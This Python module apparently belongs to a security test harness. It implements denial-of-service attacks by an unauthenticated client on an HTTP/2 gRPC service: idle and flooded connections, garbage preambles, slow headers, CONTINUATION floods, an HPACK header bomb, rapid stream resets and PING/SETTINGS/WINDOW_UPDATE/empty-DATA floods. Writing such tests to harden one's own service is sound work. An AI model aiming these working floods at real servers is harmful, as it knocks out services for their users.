"""What somebody without a credential can do with connections and frames."""

from __future__ import annotations

import itertools
import os

from attacks import ways
from attacks.frames import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PREFACE,
    call_fields,
    frame,
    message,
    reset,
    settings,
    window_update,
)
from attacks.http2_client import Connection
from attacks.strangers import Attack, Place, connect
from attacks.world import Tally, Target
from multimodal_contract import CHAT_METHOD, SEND_UNARY_METHOD
from multimodal_contract.wire import varint

_BATCH = 200
# A TLS handshake's first words, and a request in HTTP/1.1.
_CLIENT_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(506)
_HTTP_1 = b"GET / HTTP/1.1\r\nHost: proxy\r\n\r\n"


def idle(place: Place, *, greets: bool) -> Attack:
    """Connections on which nothing happens, with or without HTTP/2's first words."""

    def attack(target: Target, tally: Tally) -> None:
        # Without the first words even an answer to SETTINGS would be one too many.
        ways.hold(tally, lambda _: connect(place(target), greets=greets), target.count(3000), reads=greets)

    return attack


def connection_flood(place: Place) -> Attack:
    """Connections that are closed as soon as they are open."""

    def attack(target: Target, tally: Tally) -> None:
        def once() -> None:
            for _ in range(20):
                connect(place(target)).close()

        ways.again(tally, once, 4)

    return attack


def garbage(target: Target, tally: Tally) -> None:
    """Connections that begin with random bytes, with TLS, with HTTP/1.1, or with half of HTTP/2's first words."""

    beginnings = itertools.cycle([os.urandom(4096), _CLIENT_HELLO, _HTTP_1, PREFACE[:8], PREFACE * 20])

    def once() -> None:
        with connect(target.callers, greets=False) as connection:
            connection.send(next(beginnings))
            ways.ignoring_cuts(lambda: connection.pump(0.05))

    ways.again(tally, once, 6)


def slow_headers(target: Target, tally: Tally) -> None:
    """Header fields that come a byte at a time, and would take a quarter of an hour."""
    first = call_fields(SEND_UNARY_METHOD) + _literal(b"\0", b"x-slow", 8000)

    def open_one(_: int) -> Connection:
        connection = _settled(target)
        connection.send(frame(HEADERS, 0, connection.reserve(), first))
        return connection

    def tend(connection: Connection) -> None:
        connection.send(frame(CONTINUATION, 0, 1, b"s"))

    ways.hold(tally, open_one, target.count(600), reads=False, tend=tend)


def _settled(target: Target) -> Connection:
    """A connection whose SETTINGS are answered: between the frames of a header block no other may come."""
    connection = connect(target.callers)
    connection.pump(1.0)
    return connection


def continuation_flood(target: Target, tally: Tally) -> None:
    """A header block without an end, in frames that are as large as they can be."""
    block = call_fields(SEND_UNARY_METHOD)
    begun = _literal(b"\0", b"x-junk", 16373)
    field = frame(CONTINUATION, 0, 1, begun + b"j" * 16373)

    def open_one() -> Connection:
        connection = _settled(target)
        connection.send(frame(HEADERS, 0, connection.reserve(), block))
        return connection

    def step(connection: Connection) -> int:
        connection.send(field)
        return 1

    ways.flood(tally, open_one, step, 4, reads=False)


def header_bomb(target: Target, tally: Tally) -> None:
    """Header fields of a byte each on the wire, which stand for 4,000 bytes in the table of RFC 7541."""
    # A literal that the table keeps, then references to it: index 62 is the newest entry.
    entry = _literal(b"\x40", b"x-bomb", 3900) + b"e" * 3900
    block = call_fields(SEND_UNARY_METHOD) + entry + b"\xbe" * 12_000

    def step(connection: Connection) -> int:
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.reserve(), block))
        return 1

    ways.flood(tally, lambda: connect(target.callers), step, 4)


def _literal(kind: bytes, name: bytes, length: int) -> bytes:
    """What stands before a value of more than 126 bytes; an integer's rest is written as protobuf's varints are."""
    return kind + bytes([len(name)]) + name + b"\x7f" + varint(length - 0x7F)


def rapid_resets(target: Target, tally: Tally) -> None:
    """Calls that are cancelled in the same breath."""
    blocks = [call_fields(method) for method in (CHAT_METHOD, SEND_UNARY_METHOD)]

    def step(connection: Connection) -> int:
        raw = b""
        for number in range(_BATCH):
            stream = connection.reserve()
            raw += frame(HEADERS, END_HEADERS, stream, blocks[number % 2]) + reset(stream)
        connection.send(raw)
        return _BATCH

    ways.flood(tally, lambda: connect(target.callers), step, 3)


def frame_flood(place: Place, raw: bytes, *, reads: bool) -> Attack:
    """One frame again and again, whose answers are read or not."""

    def attack(target: Target, tally: Tally) -> None:
        def step(connection: Connection) -> int:
            connection.send(raw * _BATCH)
            return _BATCH

        ways.flood(tally, lambda: connect(place(target)), step, 3, reads=reads)

    return attack


PINGS = frame(PING, 0, 0, bytes(8))
SETTINGS_FRAMES = settings({4: 65535})
WINDOW_UPDATES = window_update(0, 1)


def empty_data(target: Target, tally: Tally) -> None:
    """Frames of DATA without any, on a call that waits for its message."""
    block = call_fields(SEND_UNARY_METHOD)

    def open_one() -> Connection:
        connection = connect(target.callers)
        connection.begin(block, message(b"", announced=100)[:3], end=False)
        return connection

    def step(connection: Connection) -> int:
        connection.send(frame(DATA, 0, 1) * _BATCH)
        return _BATCH

    ways.flood(tally, open_one, step, 3)
